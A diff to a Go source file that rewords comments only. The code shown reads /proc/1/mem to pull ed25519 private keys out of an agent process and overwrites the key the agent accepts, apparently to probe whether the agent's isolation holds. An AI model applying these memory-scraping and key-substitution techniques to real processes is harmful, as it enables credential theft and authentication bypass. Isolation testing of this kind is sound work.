@@ -11,17 +11,17 @@ import (
 	"strings"
 )
 
-// maxRegion bounds what is read of one region of the agent's memory, bytes.
+// maxRegion bounds how many bytes of one region of the agent's memory are read.
 const maxRegion = 256 << 20
 
-// region is a part of the agent's memory, and where it is.
+// region is a part of the agent's memory, and its address.
 type region struct {
 	at   int64
 	data []byte
 }
 
-// tryMemory searches the agent's memory for the secrets of the caller and of
-// the agent itself, which is returned.
+// tryMemory searches the agent's memory for the private keys of the caller and of
+// the agent itself. It returns the agent's key.
 func tryMemory(caller ed25519.PrivateKey) (agents ed25519.PrivateKey) {
 	try("memory", func(context.Context) string {
 		mem, err := os.Open("/proc/1/mem")
@@ -49,8 +49,8 @@ func tryMemory(caller ed25519.PrivateKey) (agents ed25519.PrivateKey) {
 	return agents
 }
 
-// tryOverwriting replaces, in the agent's memory, the key that it accepts by
-// another, with which it calls.
+// tryOverwriting replaces the key that the agent accepts, in the agent's memory, by
+// another one, and calls with that.
 func tryOverwriting(caller ed25519.PrivateKey) {
 	try("memory, overwritten", func(ctx context.Context) string {
 		mem, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0)
@@ -66,7 +66,7 @@ func tryOverwriting(caller ed25519.PrivateKey) {
 	})
 }
 
-// overwrite replaces each of old by as many bytes.
+// overwrite replaces each occurrence of old by as many bytes.
 func overwrite(mem *os.File, old, replacement []byte) error {
 	regions, err := regionsOf(mem)
 	if err != nil {
@@ -87,7 +87,7 @@ func overwrite(mem *os.File, old, replacement []byte) error {
 	return nil
 }
 
-// regionsOf returns what the agent can write to of its memory.
+// regionsOf returns the regions of the agent's memory that the agent can write to.
 func regionsOf(mem *os.File) ([]region, error) {
 	maps, err := os.ReadFile("/proc/1/maps")
 	if err != nil {
@@ -104,7 +104,7 @@ func regionsOf(mem *os.File) ([]region, error) {
 			continue
 		}
 		data := make([]byte, min(to-from, maxRegion))
-		if n, _ := mem.ReadAt(data, int64(from)); n > 0 { // some cannot be read
+		if n, _ := mem.ReadAt(data, int64(from)); n > 0 { // some regions cannot be read
 			regions = append(regions, region{int64(from), data[:n]})
 		}
 	}
